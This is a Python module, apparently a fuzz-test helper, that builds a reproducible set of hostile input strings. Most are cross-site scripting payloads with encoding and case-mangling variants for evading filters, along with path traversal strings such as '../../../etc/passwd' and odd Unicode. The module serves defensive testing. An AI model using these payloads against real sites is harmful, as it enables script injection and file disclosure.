"""Texts that other programs take for something else: made by us, any number of them, always the same ones."""

from __future__ import annotations

import html
import itertools
import json
import random
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

from hostile_shapes import SHAPES, reaching_out

_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('http://127.0.0.1:9/f')", "document.title='gone'")
AROUND = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "</script><script>{}</script>",
    "--></script><script>{}//",
    "<!--<script>{}</script>",
    "]]><script>{}</script>",
    "</title></style></textarea></template></noscript><script>{}</script>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "` onmouseover={} `",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    " onclick={} ",
    '"><svg onload={}>',
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></p><style><img title='</style><img src onerror={}>'>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}><summary>a</summary></details>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<form action='javascript:{}'><button>b</button></form>",
    "<a href='javascript:{}'>a</a>",
    "javascript:{}",
    "java\nscript:{}",
    " \x01JavaScript&colon;{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\ud83d<script>{}</script>",
    "＜script＞{}＜/script＞",
    "{{{{ {} }}}}{{% raw %}}${{{}}}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "<base href='javascript:{}//'>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<isindex type=image src=1 onerror={}>",
    "<template><script>{}</script></template>",
    "\u2028</script\u2029><script>{}</script>",
    "<x contenteditable onblur={} tabindex=1 id=search data-folder=//127.0.0.1:9/>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>*{{background:url(http://127.0.0.1:9/s)}}</style>{}",
    "mXSS<p id=</p><img src=x onerror={}>",
    "\x00<scr\x00ipt>{}</script>",
    "<plaintext>{}",
    "<textarea>{}</textarea><select>",
    "`${{{}}}`;\\",
)
_OTHERS = (
    reaching_out([f"file:///bait/{number}.png" for number in range(9)], "/bait"),
    *(text for text in SHAPES.values() if len(text) < 3_000),
    "../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\con", "con", "NUL.html", "index", "index.html",
    "a/b\\c:d*e?f", ".htaccess", "....//", "%2e%2e%2f", "~root", "-rf", "a" * 290, "é" * 290,
    "\u202eexe.fdp", "\u2066x",
    "ﷺ" * 40,
    "Z̷̨̛a̴l̶g̵o̷", "👩‍👩‍👧‍👦🇩🇪🇩", "\ufeff", "\u200b", "عربي <b>", "{text} {0} {film} %s %(x)s",
    "__proto__", "constructor",
    "hasOwnProperty", "toString", "null", "undefined", "NaN", "0", "-1", "1e999", "\ufffe\uffff", "\U0001ffff",
    "&amp;&amp",
    "&notit;", "&", "<", ">", '"', "'", "<!--", "-->", "<![CDATA[", "]]>", "<?xml ?>", "<!DOCTYPE html>",
    "</body></html>",
)  # fmt: skip
HOSTILE = tuple(dict.fromkeys([around.format(call, call) for call in _CALLS for around in AROUND] + list(_OTHERS)))

_MORE_CALLS = (
    "alert(document.domain)", "confirm(1)", "prompt(1)", "window.open('http://127.0.0.1:9/w')", "eval('alert(1)')",
    "new Image().src='http://127.0.0.1:9/i'", "location='http://127.0.0.1:9/l'", "setTimeout('alert(1)')",
    "import('http://127.0.0.1:9/m')", "navigator.sendBeacon('http://127.0.0.1:9/b')", "self[`al${'er'}t`](1)",
    "[1].find(alert)", "throw onerror=alert,1", "new Function`alert\\x281\\x29```",
    "document.write('<script>alert(1)</script>')",
)  # fmt: skip
_ODD_SIGNS = ("\t", "\n", "\r", "\x0c", "\x00", "\xa0", "\u2028", "\u200b", "\ufeff", "/", "&#9;", "&Tab;", "%09")


def texts(number: int, seed: int, corpus: Path | None = None) -> list[str]:
    """At least so many: those of a corpus (see `of_corpus`), those above, and as many variations as are wanted."""
    found = dict.fromkeys([*of_corpus(corpus), *HOSTILE])
    dice = random.Random(seed)
    calls = itertools.cycle([*_MORE_CALLS, *_CALLS])
    while len(found) < number:
        text = dice.choice(AROUND).format(*[next(calls)] * 2)
        for _time in range(dice.choice((0, 1, 1, 2))):
            text = _varied(text, dice)
        found.setdefault(text)
    return list(found)


def of_corpus(folder: Path | None) -> Iterator[str]:
    """The strings of a folder: of lists in JSON files, and the lines of text files."""
    for path in sorted(folder.iterdir()) if folder else ():
        if path.suffix == ".json":
            strings = json.loads(path.read_text(encoding="utf-8"))
            yield from (text for text in strings if isinstance(text, str))
        elif path.suffix == ".txt":
            yield from path.read_text(encoding="utf-8", errors="replace").splitlines()


def _varied(text: str, dice: random.Random) -> str:
    where = dice.randrange(len(text) + 1)
    kind = dice.randrange(8)
    if kind == 0:
        return "".join(dice.choice((c.upper, c.lower))() for c in text)
    if kind == 1:
        return text[:where] + dice.choice(_ODD_SIGNS) + text[where:]
    if kind == 2:
        return html.escape(text)
    if kind == 3:
        return quote(text.encode("utf-8", "replace"))
    if kind == 4:
        return "".join(f"&#{ord(c)};" if dice.random() < 0.2 else c for c in text)
    if kind == 5:
        return "".join(f"\\u{ord(c):04x}" if c in "<>\"'&" else c for c in text)
    if kind == 6:
        return dice.choice(("'", '"', "-->", "]]>", "</p>", "\\", "`", "*/", "<!--", "&", "<")) + text
    return text[:where] + dice.choice(_OTHERS)[:40] + text[where:]
